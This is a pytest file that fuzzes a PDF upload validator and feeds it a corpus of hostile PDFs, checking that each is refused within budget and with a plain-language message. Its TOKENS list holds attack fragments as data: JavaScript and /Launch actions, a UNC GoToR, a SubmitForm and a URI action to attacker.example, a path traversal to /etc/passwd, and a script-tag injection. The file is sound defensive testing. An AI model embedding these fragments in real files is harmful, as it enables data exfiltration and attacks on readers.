"""Hostile uploads: a corpus of bad PDFs and a seeded structure-aware fuzz of the upload validator.
Each is refused (or accepted) within its time and memory budget, with a message in plain words.

Reproducible: every byte comes from a seeded random.Random (nothing random at import).
A sandbox child that crashes, runs out of time or memory, or answers nonsense is a failure
of the test, not a correct refusal: the sandbox logs a warning for each, and any warning fails.
"""

import functools
import logging
import random
import time
from collections.abc import Callable
from pathlib import Path

import hostile_pdfs
import pdf_images
import pdfmaker

from dockets.pdf.sandbox import validate_upload
from dockets.pdf.validation import PdfAnalysis

MAX = 35 * 1024 * 1024
CPU_SECONDS = 5
MEMORY = 512 * 1024 * 1024
BUDGET = CPU_SECONDS * 3 + 2
VALID = pdfmaker.pdf_bytes(pages=2)
# Tokens an attacker splices into a PDF: actions, streams, absurd numbers, deep nesting, broken syntax.
TOKENS = [
    b"/JS (app.alert(1))",
    b"/S /JavaScript",
    b"/Launch",
    b"/OpenAction 1 0 R",
    b"/EmbeddedFile",
    b"/Encrypt 9 0 R",
    b"/Length 99999999999",
    b"/Count 2147483647",
    b"/Filter /FlateDecode",
    b"[" * 500,
    b"<<" * 300,
    b"stream\r\n\x78\x9c" + random.Random(1818).randbytes(40) + b"\r\nendstream",
    b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) >>",
    b"/AA << /O << /S /URI /URI (https://attacker.example/) >> >>",
    b"/A << /S /SubmitForm /F (https://attacker.example/) >>",
    b"/Filter /JBIG2Decode",
    b"/Filter /JPXDecode /Width 100000 /Height 100000",
    b"/Subtype /Image /Width 10.5 /Height 1e9",
    b"/DecodeParms << /JBIG2Globals 1 0 R /Columns 99999999 >>",
    b"endobj",
    b"xref",
    b"trailer << /Root 1 0 R /Size -1 >>",
    b"%%EOF",
    b"\x00" * 64,
    b"/Type /Pages /Kids [1 0 R]",
    b"1 0 R",
    b"999999 0 obj",
    b"/MediaBox [0 0 1e309 1e309]",
    b"(\\",
    b"<FFFF",
    b"../../etc/passwd",
    "\u202e<script>".encode(),
]
PLAIN = ("Traceback", "Exception", "NoneType", "KeyError", "pypdf", "errno")


def _mutate(rng: random.Random) -> bytes:
    data = bytearray(VALID)
    for _ in range(rng.randint(1, 6)):
        op = rng.choice(("insert", "replace", "truncate", "flip", "duplicate"))
        at = rng.randrange(len(data))
        if op == "insert":
            data[at:at] = rng.choice(TOKENS)
        elif op == "replace":
            token = rng.choice(TOKENS)
            data[at : at + len(token)] = token
        elif op == "truncate":
            del data[max(at, 8) :]
        elif op == "flip":
            data[at] = rng.randrange(256)
        else:
            chunk = data[at : at + rng.randint(1, 400)]
            data[at:at] = chunk * rng.randint(2, 50)
    return bytes(data)


def _check(path, failures: list[str], label: str) -> PdfAnalysis:
    started = time.monotonic()
    analysis = validate_upload(
        path, max_bytes=MAX, cpu_seconds=CPU_SECONDS, memory_bytes=MEMORY
    )
    elapsed = time.monotonic() - started
    if elapsed > BUDGET:
        failures.append(f"{label}: took {elapsed:.1f}s (budget {BUDGET}s)")
    for problem in analysis.problems:
        message = problem.message
        if not message or len(message) > 500 or any(word in message for word in PLAIN):
            failures.append(f"{label}: unclear message {message!r}")
    return analysis


CORPUS: dict[str, Callable[[Path], Path]] = {
    **{
        f"action_{kind}": functools.partial(hostile_pdfs.make_action_pdf, kind=kind)
        for kind in hostile_pdfs.HOSTILE_ACTIONS
    },
    **{
        f"image_{kind}": functools.partial(pdf_images.make_image_pdf, kind=kind)
        for kind in pdf_images.HOSTILE_IMAGES
    },
    "inline_image_gigapixel": pdf_images.make_inline_image_pdf,
    **{
        f"content_{codec[1:]}": functools.partial(
            pdf_images.make_codec_content_pdf, codec=codec
        )
        for codec in pdf_images.IMAGE_CODECS
    },
    "encrypted": hostile_pdfs.make_encrypted_pdf,
    "javascript": hostile_pdfs.make_javascript_pdf,
    "launch": hostile_pdfs.make_launch_pdf,
    "embedded_file": hostile_pdfs.make_embedded_file_pdf,
    "media": hostile_pdfs.make_media_pdf,
    "xfa": hostile_pdfs.make_xfa_pdf,
    "truncated": hostile_pdfs.make_truncated_pdf,
    "malformed_xref": hostile_pdfs.make_malformed_xref_pdf,
    "deep_nesting": hostile_pdfs.make_deeply_nested_pdf,
    "zip_bomb": hostile_pdfs.make_bomb_pdf,
    "huge_page_count": hostile_pdfs.make_huge_page_count_pdf,
    "not_a_pdf": hostile_pdfs.make_not_a_pdf,
    "polyglot": hostile_pdfs.make_polyglot_pdf,
    "empty": hostile_pdfs.make_empty_pdf,
}


def _crashes(caplog) -> list[str]:
    """Warnings the sandbox logged: a child that crashed, timed out or answered badly."""
    return [
        f"sandbox: {record.getMessage()[:300]}"
        for record in caplog.records
        if record.name.startswith("dockets.pdf.sandbox")
        and record.levelno >= logging.WARNING
    ]


def test_bad_pdf_corpus_is_refused_within_budget_in_plain_words(tmp_path, caplog):
    caplog.set_level(logging.WARNING, logger="dockets.pdf.sandbox")
    failures: list[str] = []
    refused = 0
    for name, make in CORPUS.items():
        path = make(tmp_path / f"{name}.pdf")
        analysis = _check(path, failures, name)
        refused += not analysis.ok
        if name != "xfa" and analysis.ok:
            failures.append(f"{name}: accepted")
    failures += _crashes(caplog)
    print(
        f"\nhostile corpus: {len(CORPUS)} bad inputs tried, {refused} refused, {len(failures)} failures"
    )
    assert not failures, "\n".join(failures)


def _fuzz(tmp_path, caplog, examples: int, seed: int) -> None:
    caplog.set_level(logging.WARNING, logger="dockets.pdf.sandbox")
    rng = random.Random(seed)
    failures: list[str] = []
    refused = 0
    for i in range(examples):
        path = tmp_path / f"fuzz-{i}.pdf"
        path.write_bytes(_mutate(rng))
        analysis = _check(path, failures, f"seed {seed} example {i}")
        assert isinstance(analysis, PdfAnalysis)
        refused += not analysis.ok
        path.unlink()
    failures += _crashes(caplog)
    print(
        f"\nfuzz: {examples} bad inputs tried (seed {seed}), {refused} refused, {len(failures)} failures"
    )
    assert not failures, "\n".join(failures)


def test_fuzzed_uploads_always_get_a_clear_answer(tmp_path, caplog):
    _fuzz(tmp_path, caplog, examples=40, seed=1313)
